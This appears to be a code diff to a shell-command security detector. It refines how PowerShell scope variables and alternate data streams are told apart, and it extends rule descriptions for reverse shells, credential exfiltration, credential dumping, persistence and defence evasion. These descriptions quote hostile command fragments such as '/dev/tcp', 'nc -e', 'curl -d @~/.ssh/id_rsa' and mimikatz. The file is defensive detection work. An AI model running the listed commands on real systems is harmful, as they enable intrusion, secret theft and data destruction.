@@ -145,6 +145,13 @@ _SYSTEM_PACKAGERS = frozenset({"apt", "apt-get", "aptitude", "dpkg", "rpm", "yum
 _BUILD_CONFIG_OUTPUT = re.compile(r"(?:^|/)bin/(?:debug|release|x64|x86|arm64)(?:/[\w.-]+)?$")
 
 
+# a PowerShell variable named with its scope or drive (`$env:PATH`, `${env:TEMP}`, `$global:x`, `$using:y`)
+_SCOPED_VARIABLE = re.compile(r"\$\{?(?:env|global|script|local|private|using|variable|function|alias):[\w.\-]+\}?",
+                              re.IGNORECASE)
+# what is left that still reads as `file:stream` (the catalogue's own test, roughly)
+_STREAM_WORD = re.compile(r"[\w)\\.\-]:(?![\\/])[a-z_][\w.\-]*", re.IGNORECASE)
+
+
 class Detector(
     DestructiveChecks, CredentialChecks, PrivilegeChecks, PersistenceChecks, EvasionChecks, DataOutChecks,
     CodeLoadingChecks, ProgramChecks,
@@ -321,12 +328,21 @@ class Detector(
             # path as the program word, a `.\program`: their own first tests, without the calls)
             if cmd.redirects or cmd.name in _STAGING_NAMES or "/" in cmd.argv[0] or "\\" in cmd.argv[0]:
                 shell_staging.judge(self, cmd, analysis, where, add)
+            catalogued = len(out)
             shell_catalogue.judge(cmd, where, add, analysis)
+            if len(out) > catalogued and ":" in cmd.span and _SCOPED_VARIABLE.search(cmd.span):
+                # `$env:USERNAME`, `${env:TEMP}`, `$script:count`: a PowerShell variable of a scope or drive, not
+                # a file's alternate data stream (a real stream word beside it is still read as one)
+                rest = " ".join([_SCOPED_VARIABLE.sub(" ", cmd.span), *(t for _, t in cmd.redirects)])
+                if not _STREAM_WORD.search(rest):
+                    out[catalogued:] = [f for f in out[catalogued:] if "[lolbas:ads]" not in f.reason]
             if cmd.name in _WINDOWS_NAMES or cmd.argv[0].startswith(".\\"):
                 shell_windows.judge(self, cmd, analysis, where, add)
             shell_context.escalate(self, cmd, analysis, out[mark:], out[:mark], where, add)
             if cmd.found or (cmd.upstream and cmd.name in _PIPE_BOUND) or cmd.name in ("fd", "fdfind"):
                 shell_context.fed_own_files(self, cmd, analysis, where, add)
+                if cmd.name in ("fd", "fdfind"):
+                    shell_context.fd_exec(self, cmd, where, add)
             if cmd.name in shell_context.TUNNEL_NAMES or cmd.name.startswith(shell_context.TUNNEL_PREFIXES):
                 shell_context.tunnel(cmd, where, add)
             if len(out) > mark and _changes_nothing(cmd):
@@ -651,17 +667,28 @@ RULES: tuple[Rule, ...] = (
           "code that fetches and execs, mshta/regsvr32 with a URL; a download saved into a folder programs run "
           "from (system bin folders, LaunchAgents, AppData Roaming, ProgramData, Startup) from a host that "
           "publishes no releases, or fetched from a bare address or over plain HTTP and made executable by chmod "
-          "on the same line; a shell command handed to a web shell in a request parameter (?cmd=id)."),
+          "on the same line; a shell command handed to a web shell in a request parameter (?cmd=id). Also a "
+          "program unpacked from an archive downloaded on the same line (unzip -d, tar -C, 7z -o, Expand-Archive, "
+          "or curl piped into tar) and run; and a download run or reverse shell written by the shell (here-doc, "
+          "echo/printf redirect, tee) into code an ordinary tool run executes (conftest.py, setup.py, a .pth file, "
+          "a bundler's or linter's config, a Gemfile) or into a Makefile's or justfile's recipes."),
     _make("block.shell.reverse-shell", "reverse shell", Risk.CRITICAL,
           "A shell wired to a network connection: bash -i >& /dev/tcp/..., nc -e, socat exec:, a shell piped "
           "through nc, interpreter socket + shell code, telnet or openssl piped into a shell, zsh ztcp, socket -p sh; "
-          "a program from a temporary folder or a removable drive given an address and a port to call back to."),
+          "a program from a temporary folder or a removable drive given an address and a port to call back to. "
+          "Also a shell wired to the network inside a program's arguments (a pager, a launcher option, a line "
+          "inserted into a boot script) or in a variable's value (an exported function, a prompt hook), and a "
+          "shell reading its commands from a /dev/tcp descriptor."),
     _make("block.shell.credential-exfiltration", "credential exfiltration", Risk.CRITICAL,
           "A secret (`[shell] secret_paths`, the environment, the keychain) sent over the network: curl -d "
           "@~/.ssh/id_rsa, nc host < .env, cat secret | curl, scp of a key to a remote host, `put` of one in an "
           "sftp/ftp session; a secret read through a vault, cloud or cluster CLI piped to a bare address or drop "
           "site; a secret-named variable ($GITHUB_TOKEN, $DB_PASSWORD) sent to a bare address or drop site (in a "
-          "request body, URL or header it asks elsewhere; as the request's own credentials it passes)."),
+          "request body, URL or header it asks elsewhere; as the request's own credentials it passes). Also a "
+          "secret from a store (vault, sops, a cloud secret manager) sent as a request's content to a host that is "
+          "neither internal nor the issuer, a provider CLI's token (gh auth token) sent to any host but its "
+          "issuer's (a cloud identity token in a header asks), and a secret decrypted or read into a file that a "
+          "later command sends."),
     _make("block.shell.database-destruction", "database destruction", Risk.CRITICAL,
           "DROP DATABASE/SCHEMA/TABLE, TRUNCATE, DELETE FROM without WHERE, FLUSHALL, dropDatabase(), dropdb, "
           "given to a database client (-c/-e/--eval, here-doc) or typed as a command; a database server's data "
@@ -691,7 +718,8 @@ RULES: tuple[Rule, ...] = (
           "authorized_keys), or granting administrator group membership / uid 0 / root's group or home; the sudoers "
           "file given to another owner; macOS accounts made or passwords reset with a literal password; owner of "
           "a cloud project or cluster-admin granted to a personal mail account, every user or a default service "
-          "account."),
+          "account. Also a polkit rule that grants every request, and write access by ACL to an account, sudo or "
+          "key file given to another user."),
     _make("block.shell.system-file-tamper", "overwriting or moving system files", Risk.CRITICAL,
           "Overwriting, replacing or moving away a file of the operating system (`system_trees`, e.g. "
           "/usr/bin/bash) or a protected path; a logon-screen accessibility program (sethc, utilman, osk, "
@@ -717,7 +745,10 @@ RULES: tuple[Rule, ...] = (
           "curl x.example/?d=$(cat f | base64)), ping -p with command output; an account, secret or records file "
           "(or a file just filled with the environment) uploaded to a public drop site; an account file or a "
           "personal folder piped to a network sink; a data file mailed to a free-mail address; a home, a personal "
-          "folder or a key folder packed into an archive that a later command of the line uploads or copies away."),
+          "folder or a key folder packed into an archive that a later command of the line uploads or copies away. "
+          "Also the screen, clipboard, camera or microphone captured silently or sent to a bare address or drop "
+          "site, people's records exported from a data store and piped to a host outside one's network, and a "
+          "file split into parts that are uploaded to a bare address."),
     _make("block.shell.cloud-exfiltration", "copies private data to storage outside the organisation",
           Risk.CRITICAL,
           "An object-store, sync or backup client (aws s3, gsutil, gcloud storage / compute scp, az storage, azcopy, "
@@ -732,7 +763,9 @@ RULES: tuple[Rule, ...] = (
           "bucket; a whole top folder of a home (~/projects) sent to such an account, drop site or bucket; a database "
           "dump piped or redirected into a database client connected to a bare public address (pg_dump | psql -h "
           "IP, mongorestore --uri mongodb://IP). The "
-          "same data copied to other storage asks (`resources/programs.toml` `[cloud_copy]`)."),
+          "same data copied to other storage asks (`resources/programs.toml` `[cloud_copy]`). A file server's "
+          "share (\\\\host\\share, //host/share) as the source of such a copy counts as the organisation's "
+          "records leaving."),
     _make("block.shell.public-exposure", "makes data public or opens a drive to everyone", Risk.CRITICAL,
           "A bucket or container made readable or writable by anyone on the internet (aws s3api put-bucket-acl "
           "--acl public-read, a bucket policy allowing Principal \"*\", the public access block removed, gsutil "
@@ -763,7 +796,9 @@ RULES: tuple[Rule, ...] = (
           "file a search finds copied or printed (find -exec cp, a loop of cat); a cloud machine's own keys asked "
           "of its instance metadata service (169.254.169.254 .../security-credentials, metadata.google.internal "
           ".../token; other metadata reads ask as recon). A copy kept in the home or using one (openssl -in, "
-          "ssh -i) asks or passes."),
+          "ssh -i) asks or passes. Also the secret columns of a browser's cookie or password database, the whole "
+          "machine searched for passwords, key files found and gathered by one search, and sops' or age's private "
+          "key (a `[files] credentials` entry)."),
     _make("block.shell.suid-shell", "setuid shell", Risk.CRITICAL,
           "chmod u+s / 4755 (or install -m 4755, setcap cap_setuid) on a shell or interpreter, or on a copy of "
           "one made in the same command: root for anyone who runs it. Also a root shell itself: an interactive "
@@ -771,7 +806,8 @@ RULES: tuple[Rule, ...] = (
           "or on a file just given to root; root capabilities (cap_setuid, cap_sys_admin) given to any program; "
           "a privileged pod that shares its node and enters it (kubectl run --overrides hostPID + nsenter); "
           "entering the host from a container (nsenter into process 1, chroot /proc/1/root, a privileged "
-          "container in the host's process space)."),
+          "container in the host's process space). Also a setuid program in a temporary or hidden folder, a root "
+          "shell in a container given the host's / (docker -v /:/host, a privileged LXD box with source=/)."),
     _make("block.shell.credential-dump", "dumps password hashes", Risk.CRITICAL,
           "Reading a password database (`[files] credential_dumps`: /etc/shadow, SAM) by any program, or "
           "running a credential dumper or password-attack tool (unshadow, mimikatz, secretsdump, nanodump, "
@@ -779,7 +815,10 @@ RULES: tuple[Rule, ...] = (
           "GetNPUsers.py, ticketer.py, ntlmrelayx.py); a tracer or debugger attached to a login, keyring or "
           "elevation process (strace -p $(pidof sshd), gdb -p gnome-keyring-daemon); a fake password prompt: "
           "an alias or function named like sudo, su, ssh or passwd that reads input without echo, and a startup-file "
-          "line that makes such a name run another program (alias sudo=~/.x/sudo) or a function of that name."),
+          "line that makes such a name run another program (alias sudo=~/.x/sudo) or a function of that name. "
+          "Also a browser's keychain storage key or a saved Wi-Fi password asked of the keychain, a process's "
+          "memory dumped and searched for secrets, and every secret of a cluster (or a namespace's, decoded) "
+          "printed with its values."),
     _make("block.shell.mass-destruction", "destroys infrastructure, backups or every process", Risk.CRITICAL,
           "Deletes past undoing outside the file system: a production, default or system namespace deleted "
           "(kubectl delete namespace prod), infrastructure destroyed without a review of the plan (terraform "
@@ -801,7 +840,9 @@ RULES: tuple[Rule, ...] = (
           "entry written by echo/printf/tee whose program sits in a temporary or hidden folder; a start-up entry "
           "that fetches from a bare address (a Run value: from any URL); a line written into a script or a "
           "server's code file that starts a program in the background from a web root, temporary or hidden "
-          "folder; a page named as a web shell copied into a web root or to another machine."),
+          "folder; a page named as a web shell copied into a web root or to another machine. Also a launchd or "
+          "systemd job made, enabled or pointed (PlistBuddy, systemctl enable/link) at a program in a temporary, "
+          "shared or hidden folder."),
     _make("block.shell.defense-evasion", "switches a defence off", Risk.CRITICAL,
           "Disabling or flushing the firewall (ufw disable, iptables -F, nft flush ruleset, netsh advfirewall "
           "off), SELinux/AppArmor/Gatekeeper/SIP, auditing or a security service (`[shell] security_services`), "
@@ -815,7 +856,11 @@ RULES: tuple[Rule, ...] = (
           "and run, or a script dressed as a picture and run; the event log switched off by its configuration (sc "
           "config eventlog start= disabled, wevtutil sl LOG /e:false); a program run from a file's alternate data "
           "stream (file.txt:x.exe); a certificate from a staging folder or a download made a trusted root "
-          "(certutil -addstore Root, Import-Certificate into Cert:\\...\\Root)."),
+          "(certutil -addstore Root, Import-Certificate into Cert:\\...\\Root). Also an encoded payload "
+          "decoded and run (by a pipe, inside interpreter code, or Invoke-Expression of a command spelled out at "
+          "run time), AMSI switched off in-session, endpoint-security agents or their extensions stopped, "
+          "Gatekeeper's quarantine mark taken off a file in a temporary or shared folder, and a script under a "
+          "hidden name in a temporary folder run."),
     _make("block.shell.option-injection", "plants a file named like a code-running option", Risk.CRITICAL,
           "A file created with a name that is an option making a program run a command "
           "(`--checkpoint-action=exec=...` of tar, `-e sh x` of rsync, `--use-compress-program`, `-TT` of zip, "
@@ -830,7 +875,8 @@ RULES: tuple[Rule, ...] = (
           "/tmp/x.ko). Signed Windows setup programs made to run a file from a staging folder (cmstp /s X.inf, "
           "msiexec /q /i, odbcconf REGSVR, installutil, regasm, regsvcs, mavinject, control X.cpl). And a library "
           "copied into a folder outside the project that the same command line then starts a program from (DLL "
-          "side-loading: the program loads it in place of its own)."),
+          "side-loading: the program loads it in place of its own). Also signed Windows programs run on a "
+          "script or library from a public or temporary folder, and a kernel driver service made from one."),
     _make("confirm.shell.env-hook", "environment that makes programs run code", Risk.HIGH,
           "A variable that makes programs run or load code: start-up files (BASH_ENV, ENV, PYTHONSTARTUP), module "
           "or library paths into writable directories (PYTHONPATH=/tmp), option variables that load code "
